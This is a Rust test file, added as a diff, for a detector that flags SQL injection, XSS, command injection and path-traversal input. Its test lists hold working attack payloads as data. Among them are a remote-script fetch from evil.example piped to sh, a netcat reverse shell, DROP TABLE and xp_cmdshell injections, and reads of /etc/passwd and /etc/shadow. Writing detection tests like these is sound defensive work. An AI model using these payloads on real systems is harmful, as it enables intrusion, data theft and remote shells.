@@ -1,0 +1,465 @@
+use super::sqli::fingerprint;
+use super::*;
+use std::time::{Duration, Instant};
+
+fn attack(s: &str) -> bool {
+    let a = is_attack(s, Context::Auto);
+    assert_eq!(a, check(s, Context::Auto).is_attack, "is_attack and check disagree on {:?}", s);
+    a
+}
+
+fn classes(s: &str) -> Vec<Class> {
+    check(s, Context::Auto).classes
+}
+
+fn assert_attacks(list: &[&str], class: Class) {
+    for s in list {
+        let v = check(s, Context::Auto);
+        assert!(v.is_attack, "not detected: {:?} -> {:?}", s, v.findings.iter().map(|f| f.rule_id).collect::<Vec<_>>());
+        assert!(v.classes.contains(&class), "{:?}: expected class {:?}, got {:?}", s, class, v.classes);
+        assert!(is_attack(s, Context::Auto));
+    }
+}
+
+fn assert_benign(list: &[&str], ctx: Context) {
+    for s in list {
+        let v = check(s, ctx);
+        assert!(!v.is_attack, "false alarm in {:?}: {:?} -> {:?}", ctx, s, v.findings.iter().map(|f| (f.rule_id, f.detail.clone())).collect::<Vec<_>>());
+        assert!(!is_attack(s, ctx));
+    }
+}
+
+// ---------------------------------------------------------------- tokenizer
+
+#[test]
+fn tokenizer_fingerprints() {
+    assert_eq!(fingerprint("1 OR 1=1", None), "1&1=1");
+    assert_eq!(fingerprint("1' OR '1'='1", Some(b'\'')), "s&s=s");
+    assert_eq!(fingerprint("' UNION SELECT 1,2--", Some(b'\'')), "sUE1,1c");
+    assert_eq!(fingerprint("sleep(5)", None), "f(1)");
+    assert_eq!(fingerprint("COS (1)", None), "f(1)");
+    assert_eq!(fingerprint("Union Pacific", None), "Un");
+    assert_eq!(fingerprint("@@version /*x*/ `tbl` N'abc'", None), "vcns");
+    assert_eq!(fingerprint("/*!50000union*/ select", None), "cUE");
+    assert_eq!(fingerprint("$$body$$ ::text", None), "son");
+    assert_eq!(fingerprint("a <> b <=> c != d", None), "n=n=n=n");
+    assert_eq!(fingerprint("x && y || z", None), "n&n&n");
+    assert_eq!(fingerprint("0x41 1.5e3 .5", None), "111");
+    // unterminated string and comment never panic and consume the rest
+    assert_eq!(fingerprint("'abc", None), "s");
+    assert_eq!(fingerprint("/* abc", None), "c");
+    assert_eq!(fingerprint("", Some(b'"')), "s");
+}
+
+// ---------------------------------------------------------------- SQL injection
+
+#[test]
+fn sqli_attacks() {
+    assert_attacks(
+        &[
+            "1' OR '1'='1",
+            "1;WAITFOR DELAY '0:0:5'--",
+            "' UNION SELECT username, password FROM users--",
+            "1 UNION ALL SELECT NULL,NULL,NULL--",
+            "-1 union/**/select/**/1,2,version()",
+            "1; DROP TABLE users",
+            "'; DROP TABLE users; --",
+            "1; exec master..xp_cmdshell 'dir'",
+            "1'; INSERT INTO admins VALUES ('x','y');--",
+            "1 AND sleep(5)",
+            "1' AND SLEEP(5) AND '1'='1",
+            "1) OR pg_sleep(5)--",
+            "'||pg_sleep(10)--",
+            "1 AND benchmark(5000000,md5(1))",
+            "1 AND 1=dbms_pipe.receive_message('a',10)",
+            "' or 1=1--",
+            "admin'--",
+            "admin' #",
+            "\" or \"\"=\"",
+            "') or ('a'='a",
+            "1 AND ascii(substring((SELECT password FROM users LIMIT 1),1,1))>64",
+            "1 AND 1=1",
+            "1 AND 8=3",
+            "1 OR 2-1=1",
+            "1 ORDER BY 5--",
+            "1' ORDER BY 3--",
+            "/*!50000union*/ /*!50000select*/ 1,2",
+            "1 /*!UNION*/ SELECT `password` FROM `users`",
+            "' AND extractvalue(1,concat(0x7e,version()))--",
+            "1' AND 1=CONVERT(int,@@version)--",
+            "1; SELECT pg_read_file('/etc/passwd')",
+            "' || (SELECT banner FROM v$version WHERE rownum=1) || '",
+            "1' AND 1=utl_inaddr.get_host_address((SELECT user FROM dual))--",
+            "1 AND (SELECT COUNT(*) FROM information_schema.tables)>0",
+            "x' AND 1=(SELECT 1 FROM pg_sleep(5))--",
+            "1' GROUP BY CONCAT(version(),FLOOR(RAND(0)*2)) HAVING MIN(0)#",
+            "' INTO OUTFILE '/var/www/shell.php'--",
+            "%27%20OR%201%3D1--",
+            "%2527%2520UNION%2520SELECT%25201%252C2--",
+            "&#39; OR 1=1 --",
+            "1\u{0}UNION\u{0}SELECT 1,2",
+            "SELECT * FROM users WHERE id=1",
+        ],
+        Class::Sqli,
+    );
+}
+
+#[test]
+fn sqli_benign() {
+    assert_benign(
+        &[
+            "Union Pacific",
+            "select the best performers, drop the laggards",
+            "O'Reilly",
+            "Let's meet at 5 -- maybe 6",
+            "DROP the Q3 position -- risky",
+            "It's a 'buy' signal, isn't it?",
+            "Limit order: price <= 152.30 and volume >= 1000",
+            "5 > 3 and 2 < 4",
+            "1 OR 2 contracts, depending on margin",
+            "Ratio 1=1 is not a valid hedge ratio",
+            "Sell 50 AAPL at market -- earnings drop expected",
+            "Update: rebalanced portfolio; deleted stale watchlist",
+            "Insert date: 2025-08-18",
+            "Sleep well: positions hedged",
+            "Benchmark: TOPIX vs Nikkei 225",
+            "100% cash -- waiting for a pullback",
+            "along with this program; if not, write to the Free Software Foundation",
+            "necklace length 16\" or 18\"",
+            "Jones' or Smith's book",
+        ],
+        Context::Auto,
+    );
+}
+
+// ---------------------------------------------------------------- XSS
+
+#[test]
+fn xss_attacks() {
+    assert_attacks(
+        &[
+            "<script>alert(1)</script>",
+            "<ScRiPt src=//evil.example/x.js></script>",
+            "<img src=x onerror=alert(1)>",
+            "<svg/onload=alert(1)>",
+            "<iframe src=\"javascript:alert(1)\"></iframe>",
+            "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
+            "<a href=\"java\tscript:alert(1)\">x</a>",
+            "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
+            "<embed src=x>",
+            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+            "<base href=\"//evil.example/\">",
+            "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
+            "<link rel=stylesheet href=\"javascript:alert(1)\">",
+            "<div style=\"width: expression(alert(1))\">",
+            "<form action=\"javascript:alert(1)\"><button>x</button></form>",
+            "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
+            "\" onmouseover=\"alert(1)",
+            "' autofocus onfocus='alert(document.cookie)",
+            "';alert(1)//",
+            "\";alert(String.fromCharCode(88,83,83));//",
+            "</script><script>alert(1)</script>",
+            "javascript:alert(document.domain)",
+            "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
+            "&lt;img src=x onerror=alert(1)&gt;",
+            "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+            "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+            "{{constructor.constructor('alert(1)')()}}",
+        ],
+        Class::Xss,
+    );
+}
+
+#[test]
+fn xss_benign() {
+    assert_benign(
+        &[
+            "<b>bold</b> in a research note is plain formatting",
+            "5 > 3 and 2 < 4",
+            "Alert: price crossed 50-day MA",
+            "Alert(s) pending",
+            "online order; onset of the rally",
+            "JavaScript developers wanted",
+            "x < y > z",
+        ],
+        Context::Auto,
+    );
+}
+
+// ---------------------------------------------------------------- command injection
+
+#[test]
+fn cmdi_attacks() {
+    assert_attacks(
+        &[
+            "; cat /etc/passwd",
+            "| id",
+            "|| whoami",
+            "&& ls -la",
+            "& ping -n 5 127.0.0.1",
+            "127.0.0.1; uname -a",
+            "x\nwhoami",
+            "x%0aid",
+            "$(whoami)",
+            "`id`",
+            "a;cat${IFS}/etc/passwd",
+            "a;cat$IFS$9/etc/passwd",
+            "| net user",
+            "& type C:\\Windows\\win.ini",
+            "& dir c:\\",
+            "; sleep 5",
+            "() { :;}; /bin/bash -c 'id'",
+            "; curl http://evil.example/x.sh | sh",
+            "\"; nc -e /bin/sh 10.0.0.1 4444",
+        ],
+        Class::Cmdi,
+    );
+}
+
+#[test]
+fn cmdi_benign() {
+    assert_benign(
+        &[
+            "AT&T Inc.",
+            "Procter & Gamble",
+            "Johnson & Johnson",
+            "echo of the morning rally faded by noon",
+            "cat bond exposure reduced",
+            "Buy 100 shares of 7203.T @ 2,845; stop at 2,800",
+            "Waited for the 2:30 fill; then cancelled the rest",
+            "$1,000 notional",
+            "IOC | FOK",
+            "Net user growth was strong",
+            "type: limit; time in force: day",
+        ],
+        Context::Auto,
+    );
+}
+
+// ---------------------------------------------------------------- traversal
+
+#[test]
+fn traversal_attacks() {
+    assert_attacks(
+        &[
+            "../../../etc/passwd",
+            "..\\..\\..\\windows\\win.ini",
+            "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
+            "..%c0%af..%c0%afetc/passwd",
+            "%252e%252e%252fetc%252fpasswd",
+            "....//....//etc/passwd",
+            "..%u2216..%u2216windows",
+            "/etc/shadow",
+            "/proc/self/environ",
+            "C:\\Windows\\win.ini",
+            "C:\\boot.ini",
+            "file.php%00.jpg",
+            "../../../../etc/hosts%00",
+        ],
+        Class::Traversal,
+    );
+}
+
+#[test]
+fn traversal_benign() {
+    assert_benign(
+        &["reports/2026/q3.pdf", "Path of export: reports/2025/08/pnl.csv", "C:\\Users\\trader\\Documents\\pnl.xlsx", "1/2 of the order", "Wait... then buy"],
+        Context::Auto,
+    );
+}
+
+// ---------------------------------------------------------------- decoding
+
+#[test]
+fn decoding_is_recorded() {
+    let v = check("%3Cscript%3Ealert(1)%3C%2Fscript%3E", Context::Auto);
+    let f = v.findings.iter().find(|f| f.rule_id == "xss.script_tag").unwrap();
+    assert!(f.decoding.contains(&"url"), "{:?}", f.decoding);
+    // offset/length refer to the decoded text "<script>alert(1)</script>"
+    assert_eq!(f.offset, 0);
+
+    let v = check("&#x3C;SCRIPT&#x3E;alert(1)", Context::Auto);
+    let f = v.findings.iter().find(|f| f.rule_id == "xss.script_tag").unwrap();
+    assert!(f.decoding.contains(&"html_entity") && f.decoding.contains(&"lowercase"), "{:?}", f.decoding);
+
+    let v = check("%252e%252e%252f%252e%252e%252fetc%252fpasswd", Context::Auto);
+    let f = v.findings.iter().find(|f| f.class == Class::Traversal).unwrap();
+    assert!(f.decoding.contains(&"url") && f.decoding.contains(&"url_repeat"), "{:?}", f.decoding);
+
+    let v = check("file.php%00.jpg", Context::Auto);
+    assert!(v.findings.iter().any(|f| f.rule_id == "traversal.nul_terminated" && f.decoding.contains(&"nul")));
+
+    // '+' is a space only in url context or when other % escapes are present
+    assert!(attack("1+UNION+SELECT+1,2%2C3"));
+    assert!(is_attack("1+UNION+SELECT+1,2", Context::Url));
+    assert!(!is_attack("+81-3-1234-5678", Context::Auto));
+}
+
+#[test]
+fn offsets_point_into_decoded_text() {
+    let input = "note: x' UNION SELECT 1,2--";
+    let v = check(input, Context::Auto);
+    let f = v.findings.iter().find(|f| f.rule_id == "sqli.union_select").unwrap();
+    assert!(input[f.offset..].to_ascii_lowercase().starts_with("union"), "{:?}", f);
+    assert!(f.detail.len() <= 100);
+}
+
+// ---------------------------------------------------------------- contexts
+
+#[test]
+fn contexts() {
+    assert_eq!(Context::parse("auto"), Some(Context::Auto));
+    assert_eq!(Context::parse("identifier"), Some(Context::Identifier));
+    assert_eq!(Context::parse("free_text"), Some(Context::FreeText));
+    assert_eq!(Context::parse("url"), Some(Context::Url));
+    assert_eq!(Context::parse("path"), Some(Context::Path));
+    assert_eq!(Context::parse("nope"), None);
+
+    // identifier: strict
+    for s in ["ACC-001", "user@example.com", "BRK.B", "7203.T", "desk/fx:tokyo", "trader_01", "ISIN US0378331005"] {
+        assert!(!is_attack(s, Context::Identifier), "{}", s);
+    }
+    for s in ["ACC-001'", "abc;def", "a<b", "x|y", "id=1", "a--b", "x\\y", "x\u{0}y"] {
+        assert!(is_attack(s, Context::Identifier), "{}", s);
+    }
+    // free text: tolerant, only clear attacks
+    for s in ["O'Reilly says: ls -la is a command", "Use <b> for bold", "onload", "1--", "information_schema is a schema"] {
+        assert!(!is_attack(s, Context::FreeText), "{}", s);
+    }
+    for s in ["' OR 1=1--", "<script>alert(1)</script>", "; cat /etc/passwd", "../../etc/passwd"] {
+        assert!(is_attack(s, Context::FreeText), "{}", s);
+    }
+    // path: traversal focus
+    assert!(is_attack("reports/../../secret", Context::Path));
+    assert!(is_attack("report.pdf\u{0}.jpg", Context::Path));
+    assert!(!is_attack("reports/2026/q3.pdf", Context::Path));
+    // url
+    assert!(is_attack("https://example.com/?q=%3Cscript%3Ealert(1)%3C/script%3E", Context::Url));
+    assert!(!is_attack("https://example.com/research?id=42&lang=ja", Context::Url));
+}
+
+#[test]
+fn class_names_rules_and_json() {
+    assert_eq!(Class::Sqli.as_str(), "sqli");
+    assert_eq!(Class::Xss.as_str(), "xss");
+    assert_eq!(Class::Cmdi.as_str(), "cmdi");
+    assert_eq!(Class::Traversal.as_str(), "traversal");
+    let ids: Vec<&str> = rules().iter().map(|r| r.id).collect();
+    let mut d = ids.clone();
+    d.sort();
+    d.dedup();
+    assert_eq!(d.len(), ids.len(), "duplicate rule ids");
+    for r in rules() {
+        assert!(r.id.starts_with(r.class.as_str()) || r.id.starts_with("identifier."), "{}", r.id);
+        assert!(!r.description.is_empty());
+    }
+    let v = check("1' UNION SELECT 1,2--<script>alert(1)</script>", Context::Auto);
+    assert!(v.is_attack && v.score >= 90);
+    assert_eq!(v.classes, vec![Class::Sqli, Class::Xss]);
+    let j = v.findings_json();
+    let arr = j.as_array().unwrap();
+    assert_eq!(arr.len(), v.findings.len());
+    for f in arr {
+        for k in ["class", "rule_id", "offset", "length", "decoding", "detail"] {
+            assert!(f.get(k).is_some(), "missing {} in {}", k, f);
+        }
+    }
+    // every emitted rule id is documented
+    for s in ["' or 1=1--", "<img src=x onerror=alert(1)>", "; id", "../../etc/passwd", "x'; waitfor delay '0:0:5'--", "%3C", "<"] {
+        for f in check(s, Context::Auto).findings {
+            assert!(ids.contains(&f.rule_id), "undocumented rule {}", f.rule_id);
+        }
+    }
+    let b = check("AAPL", Context::Auto);
+    assert!(!b.is_attack && b.score == 0 && b.findings.is_empty() && b.classes.is_empty());
+    assert_eq!(b.findings_json(), serde_json::json!([]));
+    assert!(!RULESET_VERSION.is_empty());
+}
+
+// ---------------------------------------------------------------- robustness
+
+struct Rng(u64);
+impl Rng {
+    fn next(&mut self) -> u64 {
+        self.0 ^= self.0 << 13;
+        self.0 ^= self.0 >> 7;
+        self.0 ^= self.0 << 17;
+        self.0
+    }
+}
+
+#[test]
+fn no_panic_on_random_and_mutated_input() {
+    let mut r = Rng(0x9E37_79B9_7F4A_7C15);
+    let seeds = [
+        "1' OR '1'='1", "<svg/onload=alert(1)>", "; cat /etc/passwd", "..%c0%af../etc/passwd", "&#x6A;avascript:", "%u2216", "\\u00", "%%32%65",
+        "/*!", "$$", "@@", "`", "\"", "&#", "%", "\\x", "\\", "%c0", "{{", "${", "(((", "日本語'",
+    ];
+    let alphabet: &[u8] = b"'\"`;|&$()<>/\\%.-#*=!@{}[]:, \t\n\x00aZ09xu+~^";
+    for i in 0..30_000 {
+        let len = (r.next() % 64) as usize;
+        let s: String = if i % 3 == 0 {
+            // random bytes, lossily made UTF-8
+            let b: Vec<u8> = (0..len).map(|_| r.next() as u8).collect();
+            String::from_utf8_lossy(&b).into_owned()
+        } else if i % 3 == 1 {
+            (0..len).map(|_| alphabet[(r.next() % alphabet.len() as u64) as usize] as char).collect()
+        } else {
+            let mut s = seeds[(r.next() % seeds.len() as u64) as usize].to_string();
+            for _ in 0..(r.next() % 4) {
+                let pos = (r.next() as usize) % (s.len() + 1);
+                let mut p = pos;
+                while !s.is_char_boundary(p) {
+                    p -= 1;
+                }
+                let c = alphabet[(r.next() % alphabet.len() as u64) as usize] as char;
+                s.insert(p, c);
+            }
+            s
+        };
+        for ctx in [Context::Auto, Context::Identifier, Context::FreeText, Context::Url, Context::Path] {
+            let v = check(&s, ctx);
+            assert_eq!(v.is_attack, is_attack(&s, ctx), "{:?} {:?}", s, ctx);
+            assert!(v.score <= 100);
+            for f in &v.findings {
+                assert!(f.length <= 64, "{:?}", f);
+                assert!(f.detail.chars().count() <= 100);
+            }
+            let _ = v.findings_json();
+        }
+    }
+}
+
+#[test]
+fn large_inputs_are_linear() {
+    let mb = 1 << 20;
+    let inputs: Vec<String> = vec![
+        "a".repeat(mb),
+        "'".repeat(mb),
+        "\"'".repeat(mb / 2),
+        "<".repeat(mb),
+        "(".repeat(mb),
+        "%25".repeat(mb / 3),
+        "%2e%2e%2f".repeat(mb / 9),
+        "&#".repeat(mb / 2),
+        "&#x3c;".repeat(mb / 6),
+        "../".repeat(mb / 3),
+        "1 or 1=1 ".repeat(mb / 9),
+        "' union select 1,2-- ".repeat(mb / 21),
+        "<a onclick=".repeat(mb / 11),
+        "; ls ".repeat(mb / 5),
+        "/*".repeat(mb / 2),
+        "\\u00".repeat(mb / 4),
+        "日本語のテキスト ".repeat(mb / 25),
+        "select ".repeat(mb / 7),
+        "1,".repeat(mb / 2),
+    ];
+    for s in &inputs {
+        let t = Instant::now();
+        let _ = check(s, Context::Auto);
+        let _ = is_attack(s, Context::Identifier);
+        let el = t.elapsed();
+        // generous bound: catches super-linear behaviour, not a micro-benchmark
+        assert!(el < Duration::from_secs(if cfg!(debug_assertions) { 20 } else { 1 }), "{:?} took {:?}", &s[..20.min(s.len())], el);
+    }
+}
